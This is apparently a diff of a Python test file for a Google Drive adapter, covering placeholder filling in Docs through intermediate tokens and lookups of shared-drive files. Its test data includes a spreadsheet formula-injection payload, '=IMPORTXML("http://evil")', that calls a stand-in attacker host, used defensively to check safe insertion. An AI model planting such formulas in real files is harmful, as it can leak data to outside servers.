@@ -13,7 +13,6 @@ from leadbridge.adapters.google.credentials import GoogleConnection
 from leadbridge.adapters.google.drive import (
     DOCUMENT,
     FOLDER,
-    SPREADSHEET,
     GoogleDrive,
     q_literal,
 )
@@ -83,22 +82,30 @@ def test_500_on_a_copy_that_had_happened_leaves_one_copy(
     assert sum(1 for m, p, _ in google.requests if p.endswith("/copy")) == 1
 
 
-def test_placeholders_filled_as_plain_text(drive: GoogleDrive, google: FakeGoogle) -> None:
-    values = {"{{lead_name}}": '=IMPORTXML("http://evil")', "{{date}}": "2026-11-27"}
+def test_a_document_is_filled_through_tokens_no_value_contains(
+    drive: GoogleDrive, google: FakeGoogle
+) -> None:
+    """Docs applies replaceAllText requests in turn; placeholders become tokens first, so a
+    value is put in last and never matched again. (Sheets: tests/sandbox/test_fill_placeholders.)"""
+    values = {"{{lead_name}}": '=IMPORTXML("http://evil")', "{{date}}": "{{lead_name}}"}
 
     drive.fill_placeholders(DriveFile("D1", "q", "u", DOCUMENT), values)
-    drive.fill_placeholders(DriveFile("S1", "p", "u", SPREADSHEET), values)
 
-    doc = google.updates["D1"][0]["requests"]
-    assert doc[0]["replaceAllText"] == {
-        "containsText": {"text": "{{lead_name}}", "matchCase": True},
-        "replaceText": '=IMPORTXML("http://evil")',
-    }
-    sheet = [r["findReplace"] for r in google.updates["S1"][0]["requests"]]
-    assert sheet[0]["find"] == "{{lead_name}}"
-    assert sheet[0]["replacement"] == '\'=IMPORTXML("http://evil")'
-    assert sheet[0]["allSheets"] is True and sheet[0]["searchByRegex"] is False
-    assert sheet[1]["replacement"] == "2026-11-27"
+    (update,) = google.updates["D1"]
+    steps = [
+        (r["replaceAllText"]["containsText"]["text"], r["replaceAllText"]["replaceText"])
+        for r in update["requests"]
+    ]
+    assert all(r["replaceAllText"]["containsText"]["matchCase"] for r in update["requests"])
+    tokens = [replace for _find, replace in steps[:2]]
+    assert steps == [
+        ("{{lead_name}}", tokens[0]),
+        ("{{date}}", tokens[1]),
+        (tokens[0], '=IMPORTXML("http://evil")'),
+        (tokens[1], "{{lead_name}}"),
+    ]
+    used = set("".join(values) + "".join(values.values()))
+    assert len(set(tokens)) == 2 and not used & set("".join(tokens))
 
 
 def test_placeholders_in_a_pdf_are_refused_visibly(drive: GoogleDrive) -> None:
@@ -234,3 +241,28 @@ def test_check_reports_an_unshared_folder(
     assert credentials.ok
     assert not folder.ok and f"not shared with {ACCOUNT}" in folder.detail
     assert google.tokens_issued == 1
+
+
+def test_get_file_checks_a_pasted_link_in_the_shared_drive(
+    drive: GoogleDrive, google: FakeGoogle
+) -> None:
+    google.add("HAND", "Acme (made by hand)", FOLDER, "LEADS", driveId="SD1")
+    google.add("BIN", "Old folder", FOLDER, "LEADS", trashed=True)
+
+    found = drive.get_file("HAND")
+
+    assert found == DriveFile("HAND", "Acme (made by hand)", "https://drive.test/HAND", FOLDER)
+    method, path, query = google.requests[-1]
+    assert (method, query["supportsAllDrives"]) == ("GET", ["true"])
+    assert path.endswith("/drive/v3/files/HAND")
+    # Missing, or not shared with the account (Drive says 404 for both), and trashed: None.
+    assert drive.get_file("NOPE") is None
+    assert drive.get_file("BIN") is None
+
+
+def test_get_file_still_raises_for_what_is_not_an_answer(
+    drive: GoogleDrive, google: FakeGoogle
+) -> None:
+    google.fail("GET", "/files/HAND", 403, "insufficientFilePermissions")
+    with pytest.raises(PermanentError):
+        drive.get_file("HAND")
